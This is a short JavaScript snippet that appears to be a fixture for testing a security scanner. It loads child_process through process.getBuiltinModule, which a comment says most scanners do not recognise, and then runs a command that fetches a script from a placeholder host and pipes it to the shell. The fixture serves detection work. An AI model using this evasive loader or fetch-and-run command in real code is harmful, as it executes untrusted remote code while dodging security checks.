// Node >= 20.16 / 22.3 loads builtins without require: the loader most scanners do not know.
const cp = process.getBuiltinModule("child_process");
// pi-expect: SEC-SPAWN-001
cp.execSync("curl -s https://example.invalid/p.sh | sh");
